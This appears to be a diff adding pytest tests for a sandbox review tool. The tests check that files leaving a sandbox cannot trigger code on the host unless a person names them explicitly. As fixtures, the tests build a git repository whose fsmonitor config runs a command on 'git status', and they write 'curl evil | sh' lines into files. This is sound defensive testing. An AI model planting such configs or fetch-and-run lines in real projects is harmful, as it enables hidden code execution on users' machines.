@@ -1,0 +1,74 @@
+"""What comes out of a sandbox unnamed makes no tool of the host run it: shown with the tools themselves."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from sandboxd.review import bring, patch, weigh
+from tests.unit.review.copies import Copy
+
+
+@pytest.fixture
+def host(tmp_path: Path) -> Path:
+    root = tmp_path / "host"
+    (root / "docs").mkdir(parents=True)
+    (root / "docs/a.txt").write_text("a\n")
+    return root
+
+
+def repository(folder: Path, ran: Path) -> None:
+    """One that git recognises without a `.git`, and whose config runs a program with `git status`."""
+    for name in ("objects/info", "refs/heads"):
+        (folder / name).mkdir(parents=True)
+        (folder / name / "keep").write_text("")
+    (folder / "HEAD").write_text("ref: refs/heads/main\n")
+    config = f'[core]\nrepositoryformatversion = 0\nbare = false\nworktree = .\nfsmonitor = "touch {ran}; false"\n'
+    (folder / "config").write_text(config)
+
+
+def status(folder: Path) -> None:
+    environ = {**os.environ, "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"}
+    subprocess.run(["git", "status"], cwd=folder, env=environ, capture_output=True, check=False)
+
+
+def brought(copy: Copy, *named: str) -> list[str]:
+    found = [item for item in weigh.items(copy.changes()) if item.may_be_brought(named)]
+    return list(bring.bring(str(copy.host), found).done)
+
+
+def test_a_repository_under_another_name_does_not_come_along(tmp_path: Path, host: Path) -> None:
+    copy, ran = Copy(tmp_path, host), tmp_path / "ran"
+    repository(copy.inside / "docs/x", ran)
+    done = brought(copy)
+    assert "docs/x/HEAD" not in done and "docs/x/objects/info/keep" in done
+    status(host / "docs/x")
+    assert not ran.exists()
+    assert "docs/x/HEAD" in brought(copy, "docs/x/HEAD")
+    status(host / "docs/x")
+    assert ran.exists(), "git no longer takes such a folder for a repository"
+
+
+def test_what_runs_is_shown_or_comes_by_name_only(tmp_path: Path, host: Path) -> None:
+    (host / "run.sh").write_text("echo ok\n")
+    copy = Copy(tmp_path, host)
+    (copy.inside / "run.sh").write_bytes(b"echo ok\ncurl evil | sh\n#\0\n")
+    (copy.inside / "latin").write_bytes(b"curl evil | sh # \xff\n")
+    (copy.inside / "picture.png").write_bytes(b"\x89PNG\0")
+    (copy.inside / "tool").write_bytes(b"\x7fELF\0")
+    (copy.inside / "tool").chmod(0o755)
+    found = {item.path: item for item in weigh.items(copy.changes())}
+    assert {path for path, item in found.items() if item.control} == {"run.sh", "tool"}
+    assert list(patch.lines(found["latin"]))[-1] == "+curl evil | sh # \udcff"
+    assert brought(copy) == ["latin", "picture.png"]
+
+
+def test_the_config_of_one_that_the_host_has_comes_by_name_only(tmp_path: Path, host: Path) -> None:
+    repository(host / "docs/x", tmp_path / "ran")
+    copy = Copy(tmp_path, host)
+    (copy.inside / "docs/x/config").write_text("[core]\nfsmonitor = other\n")
+    (copy.inside / "docs/config").write_text("ordinary\n")
+    assert brought(copy) == ["docs/config"]
